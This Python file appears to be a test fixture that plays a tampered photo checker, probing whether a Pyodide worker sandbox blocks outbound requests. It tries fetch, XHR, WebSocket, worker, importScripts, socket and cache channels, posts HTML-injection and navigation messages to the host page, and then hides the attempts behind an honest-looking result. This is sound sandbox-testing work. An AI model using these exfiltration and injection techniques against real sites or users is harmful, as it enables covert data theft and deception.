"""Stands in for the checker in a site that was tampered with: tries to send the photo away from Python.

What to do is read from the end of the photo: ``ORDER``, and a JSON object with the name of an attempt and the
addresses to make it at.
"""

import json
import socket
import urllib.request
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import js  # type: ignore[import-not-found]
from pyodide.ffi import to_js  # type: ignore[import-not-found]

from checker.engine import checking as honest_checking
from checker.report import Report

# What Python cannot say itself, a script of its own making can: the worker may import blobs.
# An error that a worker of its own does not catch would end the checker's worker, and all other attempts.
SCRIPT = """
const attempt = (name, how) => { try { Promise.resolve(how(base + name)).catch(() => {}); } catch {} };
attempt("fetch", (to) => fetch(to, { mode: "no-cors" }));
attempt("keepalive", (to) => fetch(to, { mode: "no-cors", method: "POST", keepalive: true }));
attempt("import", (to) => import(to));
attempt("font", (to) => new FontFace("leak", `url(${to})`).load());
attempt("worker", (to) => new Worker(URL.createObjectURL(new Blob([`
  fetch("${to}", { mode: "no-cors" })`], { type: "text/javascript" }))));
attempt("module-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
  import "${to}"`], { type: "text/javascript" })), { type: "module" }));
attempt("worker-import", (to) => new Worker(URL.createObjectURL(new Blob([`
  try { importScripts("${to}") } catch {}`], { type: "text/javascript" }))));
attempt("cache", (to) => caches.open("leak").then((cache) => cache.add(to)));
"""
# Messages that a page would be wrong to trust: markup, addresses, orders to the outer page.
REPORT = (
    '[{"file": "<img src=TO>", "standard": "TO", "outcome": "TO", "findings": [{"rule": "<img src=TO>"}]}]'
)
JUDGED = json.dumps(
    {
        "reports": REPORT,
        "size": [480, 640],
        "scene": {"points": {"<img src=TO>": [1, 2]}, "by_hand": ["TO"], "faces": 1},
        "drawings": [[{"kind": "TO", "rule": "<img src=TO>", "href": "TO"}]],
        "trouble": "<img src=TO>",
    }
)
KEPT: list[socket.socket] = []
"""Sockets of Python are web sockets here: one that is closed at once may never have asked for anything."""
MESSAGES: tuple[dict[str, Any], ...] = (
    *({"kind": "early", "id": number, "value": REPORT} for number in range(9)),
    *({"kind": "answer", "id": number, "value": value} for value in (JUDGED, REPORT) for number in range(9)),
    {"kind": "navigate", "value": "TO"},
    {"kind": "TO", "url": "TO", "href": "TO", "html": "<img src=TO>"},
    {"kind": "failed", "message": "<img src=TO>"},
)


async def checking(data: bytes, *asked: Any, **options: Any) -> list[Report]:
    """Do what the photo says, then judge it as if nothing had happened."""
    _, found, text = data.rpartition(b"ORDER")
    order: Any = json.loads(text) if found else {"attempt": "", "addresses": []}
    for base in order["addresses"]:
        try:
            ATTEMPTS[order["attempt"]](f"{base}leak/{order['attempt']}")
        except BaseException:
            continue  # refused; the other address still has its try
    return await honest_checking(data, *asked, **options)


def _forever(to: str) -> None:
    while to:
        pass


def _script(to: str) -> None:
    text = f"{{ const base = {json.dumps(to + '-')}; {SCRIPT} }}"
    blob = js.Blob.new(
        to_js([text]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    )
    js.importScripts(js.URL.createObjectURL(blob))


def _messages(to: str) -> None:
    for message in MESSAGES:
        js.postMessage(js.JSON.parse(json.dumps(message).replace("TO", to)))


def _xhr(to: str) -> None:
    request = js.XMLHttpRequest.new()
    request.open("POST", to, False)
    request.send("x")


def _pyfetch(to: str) -> None:
    import asyncio

    from pyodide.http import pyfetch  # type: ignore[import-not-found]

    asyncio.ensure_future(pyfetch(to))  # noqa: RUF006


def _open_url(to: str) -> None:
    from pyodide.http import open_url

    open_url(to)


def _urllib(to: str) -> None:
    with urllib.request.urlopen(to, timeout=1) as answer:
        answer.read()


def _socket(to: str) -> None:
    parts = urlsplit(to)
    connection = socket.socket()
    KEPT.append(connection)
    connection.setblocking(False)
    connection.connect_ex((parts.hostname or "", parts.port or 0))


def _import_scripts(to: str) -> None:
    js.importScripts(to)


def _web_socket(to: str) -> None:
    js.WebSocket.new(to.replace("http", "ws"))


def _event_source(to: str) -> None:
    js.EventSource.new(to)


def _worker(to: str) -> None:
    js.Worker.new(to)


ATTEMPTS: dict[str, Callable[[str], None]] = {
    "xhr": _xhr,
    "pyfetch": _pyfetch,
    "open-url": _open_url,
    "urllib": _urllib,
    "socket": _socket,
    "import-scripts": _import_scripts,
    "web-socket": _web_socket,
    "event-source": _event_source,
    "worker": _worker,
    "script": _script,
    "messages": _messages,
    "forever": _forever,
}
